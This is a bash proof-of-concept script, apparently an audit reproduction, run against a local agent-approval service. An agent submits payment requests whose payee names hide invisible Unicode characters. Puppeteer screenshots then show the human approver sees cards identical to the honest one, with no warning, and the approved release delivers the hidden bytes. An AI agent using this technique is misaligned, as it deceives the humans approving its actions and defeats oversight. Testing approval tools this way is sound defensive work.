#!/usr/bin/env bash
# H1: the approval console shows a param holding an invisible character that its HIDDEN list misses
# (U+FE0F VARIATION SELECTOR-16, U+1D173 MUSICAL SYMBOL BEGIN BEAM, ...) pixel-identically to the honest value,
# with no U+XXXX marker and no "Careful" banner; the approved release sends those bytes to the target.
# Needs: FOUREYES_BIN, python3, node, /usr/bin/chromium, npm (installs puppeteer-core into $W/pp, no browser download).
set -euo pipefail
F=${FOUREYES_BIN:?set FOUREYES_BIN}
W=${W:-/tmp/attack32/h1}; PORT=${PORT:-18190}; TPORT=${TPORT:-18191}
rm -rf "$W"; mkdir -p "$W"; cd "$W"
cat > target.py <<'PY'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        b=self.rfile.read(int(self.headers.get('content-length') or 0))
        open(sys.argv[2],'ab').write(b+b'\n')
        self.send_response(200); self.send_header('content-length','2'); self.end_headers(); self.wfile.write(b'ok')
    def log_message(self,*a): pass
http.server.HTTPServer(('127.0.0.1',int(sys.argv[1])),H).serve_forever()
PY
cat > pol.yaml <<YAML
version: 1
actions:
  pay.send:
    tier: 3
    params:
      amount_eur: { type: number, min: 0, max: 1000 }
      payee: { type: string }
    approvals: { required: 1, ttl: 1h }
    execute:
      http:
        method: POST
        url: "http://127.0.0.1:$TPORT/pay"
        body: '{"amount_eur": {{ params.amount_eur }}, "payee": {{ params.payee }}}'
        success: { status: [200] }
        timeout: 3s
YAML
AG=$("$F" token create --db fe.db --name bot --role agent 2>/dev/null | tail -1)
AP=$("$F" token create --db fe.db --name alice --role approver 2>/dev/null | tail -1)
python3 target.py $TPORT "$W/received.bin" & TPID=$!
"$F" serve --db fe.db --policy pol.yaml --listen 127.0.0.1:$PORT > serve.log 2>&1 & SPID=$!
trap 'kill $SPID $TPID 2>/dev/null || true' EXIT
sleep 2
U=http://127.0.0.1:$PORT
ask() { curl -s -H "Authorization: Bearer $AG" -H 'content-type: application/json' -d "{\"request_id\":\"$1\",\"action\":\"pay.send\",\"params\":{\"amount_eur\":9,\"payee\":\"$2\"}}" $U/v1/execute; }
ask honest 'ACME Ltd' >/dev/null                 # approval 1: the honest payee
ask vs16 'ACME\ufe0f Ltd' >/dev/null            # approval 2: U+FE0F after ACME
ask beam 'AC\ud834\udd73ME Ltd' >/dev/null      # approval 3: U+1D173 inside ACME
mkdir -p pp; (cd pp && npm init -y >/dev/null 2>&1 && PUPPETEER_SKIP_DOWNLOAD=1 npm install --silent puppeteer-core@22 >/dev/null 2>&1)
cat > pp/shot.js <<'JS'
const puppeteer=require('puppeteer-core');
(async()=>{
 const b=await puppeteer.launch({executablePath:'/usr/bin/chromium',headless:'new',args:['--no-sandbox']});
 const p=await b.newPage(); await p.setViewport({width:1100,height:4000});
 await p.goto(process.env.URL+'/console',{waitUntil:'networkidle0'});
 await p.type('#signin-token',process.env.TOK); await p.click('[data-testid=signin-submit]');
 await new Promise(r=>setTimeout(r,2500));
 const cards=await p.$$('#pending-cards > *'); const out=[];
 for(const c of cards){
   const head=await c.evaluate(e=>e.innerText);
   const careful=/Careful/.test(head);
   const id=(head.match(/approval #(\d+)/)||[])[1];
   for(const v of await c.$$('[data-hidden]')){ const t=await v.evaluate(e=>e.textContent);
     if(/^A.*Ltd$/u.test(t)){ const png=await v.screenshot({encoding:'base64'});
       out.push({approval:id,payee_codepoints:[...t].map(ch=>'U+'+ch.codePointAt(0).toString(16).toUpperCase()).join(' '),marked:v.dataset?undefined:undefined,hidden:await v.evaluate(e=>e.dataset.hidden),careful,png_sha:require('crypto').createHash('sha256').update(png).digest('hex').slice(0,16)}); } } }
 console.log(JSON.stringify(out)); await b.close();
})().catch(e=>{console.error(e);process.exit(1)});
JS
(cd pp && URL=$U TOK=$AP node shot.js) > cards.json
python3 - "$W/cards.json" <<'PY'
import json,sys
cards=json.load(open(sys.argv[1])); ref=[c for c in cards if c['approval']=='1'][0]['png_sha']
for c in sorted(cards,key=lambda c:c['approval']):
    print(f"approval {c['approval']}: payee {c['payee_codepoints']}  markers={c['hidden']} careful_banner={c['careful']} screenshot={c['png_sha']} {'IDENTICAL to approval 1' if c['png_sha']==ref else ''}")
PY
# the approver approves card 2 (it looks exactly like the honest one), the agent re-sends, the target gets U+FE0F
D2=$(curl -s -H "Authorization: Bearer $AP" $U/v1/approvals/2 | python3 -c 'import json,sys; print(json.load(sys.stdin)["digest"])')
curl -s -H "Authorization: Bearer $AP" -H 'content-type: application/json' -d "{\"digest\":\"$D2\"}" $U/v1/approvals/2/approve >/dev/null
ask vs16 'ACME\ufe0f Ltd' | python3 -c 'import json,sys; j=json.load(sys.stdin); print("release:", j.get("verdict"), j.get("outcome"))'
python3 -c 'import sys; print("target received:", ascii(open(sys.argv[1],"rb").read().decode()))' "$W/received.bin"
